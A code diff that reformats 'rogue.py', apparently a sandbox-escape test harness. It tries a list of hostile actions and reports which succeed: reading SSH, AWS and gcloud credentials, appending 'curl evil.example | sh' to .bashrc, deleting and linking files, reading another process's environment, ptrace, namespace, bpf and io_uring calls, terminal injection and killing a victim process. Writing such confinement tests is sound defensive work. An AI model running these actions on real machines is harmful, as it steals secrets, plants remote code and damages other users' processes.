@@ -2,9 +2,9 @@
 
     rogue.py BASE WORKSPACE JOURNAL VICTIM-PID
 
-It is honest about what it got (``loot``) and which error it met, because that is what the demonstration prints;
-whether files were changed is looked up by the demonstration itself, from outside. Standard library only: it has to
-run wherever it is planted.
+It is honest about what it got (``loot``) and which error it met, because that is what the
+demonstration prints; whether files were changed is looked up by the demonstration itself, from
+outside. Standard library only: it has to run wherever it is planted.
 """
 
 from __future__ import annotations
@@ -34,7 +34,11 @@ def attempt(act: str, try_it: Callable[[], str | None]) -> None:
     try:
         result = {"act": act, "error": None, "loot": try_it()}
     except OSError as failure:
-        result = {"act": act, "error": errno.errorcode.get(failure.errno or 0, str(failure.errno)), "loot": None}
+        result = {
+            "act": act,
+            "error": errno.errorcode.get(failure.errno or 0, str(failure.errno)),
+            "loot": None,
+        }
     print(json.dumps(result), flush=True)
 
 
@@ -81,12 +85,16 @@ def type_into_terminal() -> None:
 
 attempt("read-ssh-key", lambda: read(f"{base}/.ssh/id_ed25519"))
 attempt("read-aws-keys", lambda: read(f"{base}/.aws/credentials"))
-attempt("read-gcloud-keys", lambda: read(f"{base}/.config/gcloud/application_default_credentials.json"))
+attempt(
+    "read-gcloud-keys", lambda: read(f"{base}/.config/gcloud/application_default_credentials.json")
+)
 attempt("list-home", lambda: " ".join(os.listdir(base)))
 attempt("append-bashrc", lambda: write(f"{base}/.bashrc", "curl evil.example | sh\n", "a"))
 attempt("write-outside", lambda: write(f"{base}/planted", "rogue was here\n", "w"))
 attempt("delete-in-home", lambda: os.unlink(f"{base}/thesis.txt"))
-attempt("link-key-into-workspace", lambda: os.link(f"{base}/.ssh/id_ed25519", f"{workspace}/harmless"))
+attempt(
+    "link-key-into-workspace", lambda: os.link(f"{base}/.ssh/id_ed25519", f"{workspace}/harmless")
+)
 attempt("read-by-proc-root", lambda: read(f"/proc/self/root{base}/.ssh/id_ed25519"))
 attempt(
     "read-journal",
@@ -103,7 +111,9 @@ attempt("environment-of-others", lambda: read(f"/proc/{victim}/environ"))
 attempt("ptrace", lambda: in_child(lambda: call(libc.ptrace, PTRACE_SEIZE, int(victim), 0, 0)))
 attempt("unshare", lambda: in_child(lambda: call(libc.unshare, CLONE_NEWUSER)))
 attempt("mount", lambda: in_child(new_mount))
-attempt("bpf", lambda: call(libc.syscall, BPF, 0, struct.pack("IIII112x", 2, 4, 4, 1), 128))  # create an array map
+attempt(
+    "bpf", lambda: call(libc.syscall, BPF, 0, struct.pack("IIII112x", 2, 4, 4, 1), 128)
+)  # create an array map
 attempt("io_uring", lambda: call(libc.syscall, IO_URING_SETUP, 4, ctypes.create_string_buffer(256)))
 attempt("tiocsti", type_into_terminal)
 attempt("kill-others", lambda: os.kill(int(victim), signal.SIGKILL))
